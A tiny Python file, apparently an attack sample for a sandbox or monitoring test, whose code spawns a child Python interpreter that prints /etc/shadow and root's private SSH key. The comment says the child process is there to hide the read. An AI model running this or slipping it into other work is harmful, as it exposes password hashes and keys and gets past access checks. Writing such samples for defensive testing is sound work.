# attack: sys.executable -c with code that reads /etc/shadow, hiding the read in a child interpreter
import subprocess
import sys

code = "print(open('/etc/shadow').read()); print(open('/root/.ssh/id_rsa').read())"
print(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout)
